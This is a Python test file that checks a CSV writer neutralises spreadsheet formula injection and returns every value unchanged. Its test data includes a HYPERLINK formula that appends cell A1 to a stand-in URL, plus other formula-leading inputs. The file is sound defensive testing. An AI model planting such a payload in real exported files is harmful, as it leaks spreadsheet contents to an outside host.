"""CASE-26: a file that is opened in a spreadsheet runs nothing, and gives back what went in."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from setiakawan.categories.tables import BOM, SEPARATOR, read_text, write_csv, write_text

CASE_26 = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "+6281200001234",
    "-",
    "@SUM(1,1)",
    "\t=1+1",
    "anak ke-2, sehat",
    "'sudah bertanda petik",
    "",
]


def cells_of(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=SEPARATOR))


@pytest.mark.parametrize("text", CASE_26)
def test_no_text_begins_like_a_formula_and_each_comes_back(text):
    ((cell,),) = cells_of(write_csv([text], []))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_text(cell) == text


def test_numbers_days_and_answers_stay_what_they_are():
    text = write_csv(["a", "b", "c", "d", "e"], [[-5, date(2026, 11, 25), True, None, "+62"]])
    assert cells_of(text)[1] == ["-5", "2026-11-25", "ya", "", "'+62"]


@given(st.text(max_size=30))
def test_any_text_survives(text):
    written = write_text(text)
    assert read_text(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=1, max_size=4)
)
def test_any_table_survives_the_file(texts):
    found = cells_of(write_csv(texts, [texts]))
    assert [[read_text(cell) for cell in row] for row in found] == [texts, texts]
